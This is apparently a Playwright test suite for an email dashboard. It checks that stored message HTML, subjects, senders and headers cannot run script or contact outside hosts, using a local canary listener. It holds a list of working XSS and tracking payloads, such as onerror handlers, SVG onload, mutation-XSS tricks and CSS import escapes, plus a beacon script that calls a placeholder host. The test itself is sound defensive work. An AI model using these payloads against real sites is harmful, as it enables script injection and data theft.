"""Stored script and tracking in messages (THREATS 57), in a real Chromium: nothing runs, nothing is asked for."""

import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, Request
from sqlalchemy import Connection

from gatepost.store import messages, sealing
from gatepost.store.schema import attempt, message, recipient
from tests.dashboard.conftest import OpenPage
from tests.dashboard.seed import Mail, To, Try, store
from tests.dashboard.site import Site

_CORPUS = Path(__file__).parents[2] / ".." / "shared" / "corpora" / "bleach-xss" / "data"


class Canary:
    """A listener on loopback that counts whoever connects, even without a word."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.host = f"127.0.0.1:{self._socket.getsockname()[1]}"
        self.visits: list[bytes] = []
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            connection.settimeout(0.5)
            try:
                self.visits.append(connection.recv(200))
            except OSError:
                self.visits.append(b"(a connection without a word)")
            connection.close()

    def close(self) -> None:
        """Stop listening."""
        self._socket.close()


@pytest.fixture
def canary() -> Iterator[Canary]:
    """A place that no page may ever reach."""
    made = Canary()
    yield made
    made.close()


_HTML = [
    "<script>CALL</script>", "<script src=//HOST/a.js></script>", "<img src=x onerror=CALL>", "<img src=//HOST/a.png>", "<img srcset='//HOST/a.png 2x'>",
    "<svg onload=CALL></svg>", "<svg><image href=//HOST/a /><use href='//HOST/a#b'/><script>CALL</script></svg>", "<svg><animate onbegin=CALL attributeName=x dur=1s>",
    "<meta http-equiv=refresh content='0;url=http://HOST/'>", "<meta http-equiv=Content-Security-Policy content='default-src *'>", "<base href=http://HOST/><img src=a.png>",
    "<link rel=stylesheet href=//HOST/a.css>", "<link rel=preconnect href=http://HOST><link rel=dns-prefetch href=//HOST><link rel=prefetch href=//HOST/a><link rel=preload as=image href=//HOST/a>",
    "<style>@import '//HOST/a.css';body{background:url(//HOST/b)}@font-face{font-family:x;src:url(//HOST/c)}*{font-family:x}</style>x",
    "<style>@\\69mport '//HOST/a.css'; p{background:u\\72l(//HOST/d)}</style><p>x", "<div style='background:url(//HOST/a);list-style:url(//HOST/b)'>x</div>",
    "<div style='background-image:image-set(\"//HOST/a\" 1x)'>x</div>", "<style>p{background:image-set('//HOST/e' 1x)}</style><p>x</p>",
    "<iframe src=//HOST/></iframe>", "<iframe srcdoc='<script>parent.CALL</script>'></iframe>", "<object data=//HOST/a></object><embed src=//HOST/a>",
    "<video src=//HOST/a autoplay poster=//HOST/b></video><audio src=//HOST/c autoplay></audio>", "<form action=//HOST/><input autofocus onfocus=CALL><button>x</button></form>",
    "<body onload=CALL background=//HOST/a>", "<details open ontoggle=CALL>x</details>", "<a href='javascript:CALL' autofocus onfocus=CALL>x</a>", "<table background=//HOST/a><tr><td>x</table>",
    "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"CALL\"><image href=\"http://HOST/a\"/></svg>'>", "<iframe src='data:text/html,<script>CALL</script>'></iframe>",
    "<noscript><p title='</noscript><img src=x onerror=CALL>'></noscript>", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=CALL&gt;'>",
    "<template><img src=//HOST/a></template><slot></slot>", "<portal src=//HOST/></portal><fencedframe></fencedframe>", "<input type=image src=//HOST/a>", "<marquee onstart=CALL>x</marquee>",
    "</iframe></section><script>CALL</script>", "<!--[if true]><img src=//HOST/a><![endif]-->", "<?xml-stylesheet href='//HOST/a.css'?>", "<html manifest=//HOST/a>", "<img src='//HOST/a' loading=lazy>",
]  # fmt: skip
_CALL = "(function(){try{top.pwned=1}catch(e){};try{parent.pwned=1}catch(e){};window.pwned=1;new Image().src='http://HOST/run';fetch('http://HOST/run');alert(1)})()"


def payloads(host: str) -> list[str]:
    """Make the attacks: ours, and the corpus where it is there."""
    found = [html.replace("CALL", _CALL.replace('"', "'")) for html in _HTML]
    if _CORPUS.is_dir():
        found += [path.read_text("utf-8").partition("\n--\n")[0] for path in sorted(_CORPUS.glob("*.test"))]
    return [html.replace("HOST", host) for html in found]


def spy(page: Page) -> list[str]:
    """Collect what must not happen: dialogs, new windows, and requests to anywhere but our server."""
    seen: list[str] = []
    own = page.url.split("/")[2]

    def note(request: Request) -> None:
        if not request.url.startswith(("data:", "about:", f"http://{own}/")):
            seen.append(request.url)

    page.on("dialog", lambda dialog: (seen.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.on("popup", lambda popup: seen.append(f"popup {popup.url}"))
    page.context.on("request", note)
    return seen


def test_nothing_in_a_messages_html_runs_or_asks(site: Site, open_page: OpenPage, canary: Canary) -> None:
    """Each attack alone and all together, in the preview and opened as a page of its own."""
    deps = site.deps
    attacks = payloads(canary.host)
    page = open_page(site.url)
    seen = spy(page)
    for html in [*attacks, "\n".join(attacks)]:
        mail = Mail(name="x", ago_s=1, sender="a@acme.example", subject="x", to=(To(address="b@example.net"),), html=html)
        message_id = site.run(store(deps.engine, deps.blobs, deps.default_tenant_id, deps.clock.now(), mail))
        page.goto(f"{site.url}/m/{message_id}?tab=html", wait_until="load")
        assert page.locator("iframe").get_attribute("sandbox") == ""
        assert page.evaluate("window.pwned") is None
        assert page.url.startswith(f"{site.url}/m/{message_id}")
    page.goto(f"{site.url}/m/{message_id}/html", wait_until="load")
    assert page.evaluate("document.scripts.length") == 0
    assert page.url == f"{site.url}/m/{message_id}/html"
    page.wait_for_timeout(500)
    assert seen == []
    assert canary.visits == []
    open_page.complaints.clear()  # what the policy blocked is written to the console, as it should be


def test_the_policy_alone_would_hold(site: Site, open_page: OpenPage, canary: Canary, monkeypatch: pytest.MonkeyPatch) -> None:
    """The cleaning is the second wall: with it away, sandbox and policy still let no script run and no image load."""
    from gatepost.dashboard import preview

    monkeypatch.setattr(preview, "make_preview", lambda html, images, is_dark=False: preview.Preview(html=html))
    attacks = [html for html in payloads(canary.host) if "rel=preconnect" not in html]  # the one thing that no policy can forbid
    deps = site.deps
    page = open_page(site.url)
    for html in attacks:
        mail = Mail(name="x", ago_s=1, sender="a@acme.example", subject="x", to=(To(address="b@example.net"),), html=html)
        message_id = site.run(store(deps.engine, deps.blobs, deps.default_tenant_id, deps.clock.now(), mail))
        page.goto(f"{site.url}/m/{message_id}", wait_until="load")
        assert page.evaluate("window.pwned") is None
    page.wait_for_timeout(300)
    assert [visit for visit in canary.visits if b"/run" in visit or b"png" in visit or b".js" in visit] == []
    assert page.url.startswith(site.url)
    open_page.complaints.clear()


def test_nothing_beside_the_html_runs_either(site: Site, open_page: OpenPage, canary: Canary) -> None:
    """Subject, sender, recipient, tag, text, header, file name, reply and transcript are text on every page."""
    evil = f"\"'><script>{_CALL}</script><img src=x onerror={_CALL}>{{{{7*7}}}}".replace("HOST", canary.host)
    deps = site.deps
    tries = (Try(outcome="failed", after_s=1, code=550, reply=evil, host=evil, category=evil, transcript=evil),)
    mail = Mail(
        name="x",
        ago_s=1,
        sender="a@acme.example",
        subject="x",
        to=(To(address="b@example.net", status="bounced", reason=evil, tries=tries),),
        text=evil,
        tags=(evil,),
    )
    message_id = site.run(store(deps.engine, deps.blobs, deps.default_tenant_id, deps.clock.now(), mail))
    site.write(lambda conn: _rewrite(conn, message_id, evil))
    site.write(lambda conn: conn.execute(attempt.update().where(attempt.c.message_id == message_id).values(tls=evil, peer=evil)))
    page = open_page(site.url)
    seen = spy(page)
    for path in (
        "/",
        "/?q=" + "%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
        *(f"/m/{message_id}?tab={tab}" for tab in ("text", "headers", "source", "files")),
        "/q",
    ):
        page.goto(site.url + path, wait_until="load")
        assert page.evaluate("window.pwned") is None
        assert page.evaluate("document.scripts.length") == 2
        assert page.locator("img[src=x]").count() == 0
    page.wait_for_timeout(300)
    assert seen == []
    assert canary.visits == []


def _rewrite(conn: Connection, message_id: str, evil: str) -> None:
    """Store what no door would take."""
    ring, day = sealing.keyring_of(conn), sealing.day_of_id(message_id)
    row = messages.get(conn, None, message_id)
    assert row is not None
    changed = row._asdict() | {"subject": evil, "from_": evil, "route": "sandbox"}
    sealed = messages._sealed_message(conn, ring, changed, row.tenant_id, day)
    conn.execute(message.update().where(message.c.id == message_id).values(_columns_of(message, sealed)))
    to = messages.recipients_of(conn, [message_id])[message_id][0]
    changed = to._asdict() | {"address": evil, "address_key": evil}
    is_it = recipient.c.message_id == message_id
    conn.execute(
        recipient.update().where(is_it).values(_columns_of(recipient, messages._sealed_recipient(conn, ring, changed, row.tenant_id, day)))
    )


def _columns_of(table: Any, row: dict[str, Any]) -> dict[str, Any]:
    return {name: value for name, value in row.items() if name in table.c}


def test_a_link_in_a_message_leads_nowhere(site: Site, open_page: OpenPage, canary: Canary) -> None:
    """A click in the preview asks nobody; the list below says where the link would have led."""
    deps = site.deps
    html = f"<a href='http://{canary.host}/click' style='display:block;height:200px'>Click</a>"
    mail = Mail(name="x", ago_s=1, sender="a@acme.example", subject="x", to=(To(address="b@example.net"),), html=html)
    page = open_page(f"{site.url}/m/{site.run(store(deps.engine, deps.blobs, deps.default_tenant_id, deps.clock.now(), mail))}")
    page.frame_locator("iframe").locator("a").click()
    page.get_by_text("1 link").click()
    assert page.locator(".links code").inner_text() == f"http://{canary.host}/click"
    page.wait_for_timeout(300)
    assert canary.visits == []
